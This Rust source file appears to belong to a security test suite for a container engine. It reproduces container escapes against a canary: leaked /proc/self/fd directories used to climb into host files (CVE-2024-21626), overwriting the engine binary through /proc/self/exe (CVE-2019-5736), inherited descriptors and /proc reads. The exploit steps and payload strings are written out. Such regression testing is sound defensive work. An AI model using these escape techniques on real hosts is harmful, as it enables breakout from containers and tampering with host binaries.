//! What an engine has open, and is itself, while it starts a program: descriptors, directories, its own program file.

use std::{
    fs,
    os::{
        linux::net::SocketAddrExt,
        unix::net::{SocketAddr, UnixListener},
    },
    process::Command,
};

use nix::fcntl::{FcntlArg, FdFlag, fcntl};
use sha2::{Digest, Sha256};
use tests::{
    archive::Maker,
    engine::{Said, output, said},
};

use crate::{
    attack::{Attack, Outcome, Scene},
    files::{Detached, image, image_with},
};

/// The engine has no more open than this.
const DESCRIPTORS: std::ops::Range<usize> = 3..32;

/// Root inside is root outside.
const HOST: &[&str] = &["--userns", "host"];
const NAIVE: &str = "an engine that leaves them open";

pub(crate) fn attacks() -> Vec<Attack> {
    let attack = |name: &str, cve, act: fn(&Scene) -> Outcome| Attack::new(("descriptors", name), cve, NAIVE, act);
    vec![
        attack("a working directory of run is one that the engine has open", "CVE-2024-21626", |scene| {
            each(scene, |at| {
                let command = climb(scene);
                let directory = format!("/proc/self/fd/{at}");
                scene.run(&["-w", &directory], &["sh", "-c", &command])
            })
        }),
        attack(
            "an image's working directory, behind a link, is one that the engine has open",
            "CVE-2024-21626",
            |scene| {
                each(scene, |at| {
                    if !scene.target.is_engine() {
                        return None;
                    }
                    let change = format!("WORKDIR /link{at}");
                    let add = |maker: Maker| maker.symlink(format!("link{at}"), format!("/proc/self/fd/{at}"));
                    let image = image_with(scene, &format!("cwd{at}-"), &[&change], add);
                    Some(scene.target.engine(&["run", "--rm", &image, "sh", "-c", &climb(scene)]))
                })
            },
        ),
        attack("a directory is made below one that the engine has open", "CVE-2024-21626", |scene| {
            let made = scene.path("canary/made");
            let made = made.to_str().expect("a UTF-8 path").to_owned();
            let up = "../../../../../../../..";
            let all = each(scene, |at| {
                if scene.is_on() {
                    scene.run(&["-w", &format!("/proc/self/fd/{at}/{up}{made}")], &["true"])
                } else {
                    naive(scene, "/proc/self/fd/9", &["/bin/mkdir", &format!("{up}{made}")])
                }
            });
            if scene.is_canary_intact() { all } else { Outcome::Through("made".to_owned()) }
        }),
        attack("a working directory of exec is one that the engine has open", "CVE-2024-21626", |scene| {
            if !scene.target.is_engine() {
                return Outcome::Not("it is joined by other means".to_owned());
            }
            let container = Detached::start(scene, &[], "bb", &["sleep", "1000"]);
            each(scene, |at| {
                let command =
                    ["exec", "-w", &format!("/proc/self/fd/{at}"), &container.name, "sh", "-c", &climb(scene)];
                Some(scene.target.engine(&command))
            })
        }),
        attack(
            "the program is one of the host's, through a directory that the engine has open",
            "CVE-2024-21626",
            |scene| {
                let host = scene.path("canary");
                let program = format!("../../../../../../../..{}/busybox", host.display());
                tests::rootfs::copy_program(scene.target.rootfs().join("bin/busybox"), host.join("busybox"));
                each(scene, |at| {
                    let path = format!("/proc/self/fd/{at}/{program}");
                    if scene.is_on() {
                        scene.run(&[], &[&path, "echo", crate::attack::SECRET])
                    } else {
                        naive(scene, "/", &["/proc/self/fd/9/busybox", "echo", crate::attack::SECRET])
                    }
                })
            },
        ),
        attack("the caller's open files come along", "", inherited),
        Attack::new(
            ("descriptors", "the engine's program is overwritten by the container that it starts"),
            "CVE-2019-5736",
            "an engine that joins as it is",
            |scene| overwrite(scene, Appears::AtStart),
        ),
        Attack::new(
            ("descriptors", "the engine's program is overwritten by a container that somebody joins"),
            "CVE-2019-5736",
            "an engine that joins as it is",
            |scene| overwrite(scene, Appears::InExec),
        ),
        Attack::new(
            ("descriptors", "the engine's program is overwritten that joins a container of another one's"),
            "CVE-2019-5736",
            "an engine that joins as it is",
            |scene| overwrite(scene, Appears::InAnothersExec),
        ),
        seen("the command line of who joins a container is read", "cmdline", |scene, _| {
            scene.canary().display().to_string()
        }),
        seen("the host's mounts are read from who joins a container", "mountinfo", |_, _| {
            let table = fs::read_to_string("/proc/self/mountinfo").expect("mountinfo");
            let root = table.lines().find(|line| line.split(' ').nth(4) == Some("/")).expect("a root");
            // Its id, its parent's, its device.
            root.split_inclusive(' ').take(3).collect()
        }),
        seen("the host's sockets are read from who joins a container", "net/unix", |_, socket| socket.to_owned()),
    ]
}

/// A process of the container reads a file of /proc, which all may read, of whoever is born in there.
fn seen(name: &'static str, file: &'static str, secret: fn(&Scene, &str) -> String) -> Attack {
    Attack::new(("descriptors", name), "", "an engine that joins one namespace after the other", move |scene| {
        if !scene.target.is_engine() {
            return Outcome::Not("it is joined by other means".to_owned());
        }
        let socket = format!("mini-docker-attack-{}-{}", std::process::id(), scene.id);
        let address = SocketAddr::from_abstract_name(&socket).expect("an address");
        let _listener = UnixListener::bind_addr(&address).expect("bind");
        let flags: &[&str] = if scene.is_on() { &[] } else { HOST };
        let container = Detached::start(scene, flags, "bb", &["/attack/watch", file, &secret(scene, &socket)]);
        container.await_file("/watching");
        let environment = format!("CANARY={}", scene.canary().display());
        for _ in 0..if scene.is_on() { 30 } else { 1 } {
            if scene.is_on() {
                scene.target.engine(&["exec", "-e", &environment, &container.name, "true"]);
            } else {
                let mut naive = Command::new(scene.target.rootfs().join("attack/naive"));
                naive.arg(container.pid().to_string()).arg(scene.canary()).args(["/", "/bin/true"]);
                let _ = naive.output();
            }
        }
        let said = scene.target.engine(&["logs", &container.name]);
        Outcome::of(said.out.contains("OUT"), said.out + &said.err)
    })
}

/// A script that reads the canary from wherever it stands.
fn climb(scene: &Scene) -> String {
    format!("cat ../../../../../../../..{0}/secret; cat ./secret", scene.canary().display())
}

/// Tries each descriptor; without a defence, by an engine that has number 9 open.
fn each(scene: &Scene, attempt: impl Fn(usize) -> Option<Said>) -> Outcome {
    if !scene.is_on() {
        let climbed = naive(scene, "/proc/self/fd/9", &["/bin/sh", "-c", &climb(scene)]);
        if let Some(climbed) = climbed.filter(|said| Scene::tells(&said.out)) {
            return Outcome::Through(climbed.out);
        }
    }
    let mut last = String::new();
    for at in DESCRIPTORS {
        let Some(said) = attempt(at) else { return Outcome::Not("it has no such flags".to_owned()) };
        if Scene::tells(&said.out) {
            return Outcome::Through(said.out);
        }
        last = said.err;
        if !scene.is_on() {
            break;
        }
    }
    Outcome::Stopped(last)
}

/// Runs a program in a container as an engine without defences does.
fn naive(scene: &Scene, directory: &str, command: &[&str]) -> Option<Said> {
    let container = Detached::start(scene, HOST, "bb", &["sleep", "1000"]);
    let mut naive = Command::new(scene.target.rootfs().join("attack/naive"));
    naive.arg(container.pid().to_string()).arg(scene.canary()).arg(directory).args(command);
    Some(said(&output(naive, b"")))
}

/// A file that whoever calls the engine has open for all programs that he starts.
fn inherited(scene: &Scene) -> Outcome {
    let look = "cat /proc/self/fd/9/secret";
    if !scene.is_on() {
        let said = naive(scene, "/", &["/bin/sh", "-c", look]).expect("a container");
        return Outcome::of(Scene::tells(&said.out), said.out);
    }
    if !scene.target.is_engine() {
        return Outcome::Not("its caller is an engine".to_owned());
    }
    let canary = fs::File::open(scene.canary()).expect("open the canary");
    fcntl(&canary, FcntlArg::F_SETFD(FdFlag::FD_CLOEXEC)).expect("fcntl");
    let command = scene.target.command(&["run", "--rm", "bb", "sh", "-c", look]);
    let mut shell = Command::new("sh");
    let words = command.get_args().map(|word| format!("'{}'", word.to_string_lossy())).collect::<Vec<_>>().join(" ");
    let script =
        format!("exec 9<'{}'; exec '{}' {words}", scene.canary().display(), command.get_program().to_string_lossy());
    shell.args(["-c", &script]).stdin(std::process::Stdio::null());
    for (key, value) in command.get_envs() {
        shell.env(key, value.unwrap_or_default());
    }
    let said = said(&output(shell, b""));
    Outcome::of(Scene::tells(&said.out), said.out + &said.err)
}

/// How the engine's program comes into the container.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Appears {
    AtStart,
    InExec,
    /// Of a copy that no monitor runs, as after an upgrade: no running program keeps the kernel from writing to it.
    InAnothersExec,
}

/// A program of the container waits for the engine's to appear, which an image makes it do by naming /proc/self/exe.
fn overwrite(scene: &Scene, how: Appears) -> Outcome {
    if !scene.target.is_engine() {
        return Outcome::Not("its program is its caller's, too".to_owned());
    }
    let digest = |path: &std::path::Path| fs::read(path).map(|bytes| Sha256::digest(&bytes)).ok();
    let evil = image(scene, "exe", |maker| {
        maker.edited(tar::EntryType::Regular, "evil", "", b"#!/proc/self/exe\n", |header| header.set_mode(0o755))
    });
    // It ends when it has succeeded.
    let limit = if scene.is_on() { "2000" } else { "20000" };
    let flags: &[&str] = if scene.is_on() { &[] } else { HOST };
    let container = Detached::start(scene, flags, &evil, &["/attack/overwrite", limit]);
    container.await_file("/watching");
    let victim = match (scene.is_on(), how) {
        (false, _) => scene.path("naive"),
        (true, Appears::InAnothersExec) => scene.path("another"),
        (true, _) => scene.target.program(),
    };
    if !scene.is_on() {
        tests::rootfs::copy_program(scene.target.rootfs().join("attack/naive"), &victim);
    } else if how == Appears::InAnothersExec {
        tests::rootfs::copy_program(scene.target.program(), &victim);
    }
    let before = digest(&victim);
    for program in ["/proc/self/exe", "/evil"] {
        if !scene.is_on() {
            let pid = container.pid().to_string();
            // The watcher may be looking at another process just then.
            for _ in 0..10 {
                let mut naive = Command::new(&victim);
                let _ = naive.arg(&pid).arg(scene.canary()).args(["/", program, "info"]).output();
            }
        } else if how == Appears::InAnothersExec {
            let command = scene.target.command(&["exec", &container.name, program, "info"]);
            let mut another = Command::new(&victim);
            another.args(command.get_args());
            another.envs(command.get_envs().filter_map(|(key, value)| Some((key, value?))));
            let _ = output(another, b"");
        } else if how == Appears::InExec {
            container.exec(&[program, "info"]);
        } else {
            // In the other container's sight, so that it need not hurry.
            let pid = format!("container:{}", container.name);
            scene.target.engine(&["run", "--rm", "--pid", &pid, &evil, program, "info"]);
        }
    }
    let said = scene.target.engine(&["wait", &container.name]).out;
    let said = scene.target.engine(&["logs", &container.name]).out + &said;
    let intact = before.is_some() && before == digest(&victim);
    drop(container);
    Outcome::of(!intact || said.contains("OUT"), said)
}
